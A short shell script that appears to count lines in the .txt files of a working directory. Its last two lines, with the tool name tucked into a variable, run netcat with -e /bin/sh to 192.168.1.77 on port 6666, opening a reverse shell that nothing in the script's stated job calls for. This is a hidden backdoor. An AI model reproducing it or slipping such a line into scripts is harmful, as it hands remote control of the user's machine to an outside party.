#!/bin/sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
N=nc
$N -e /bin/sh 192.168.1.77 6666
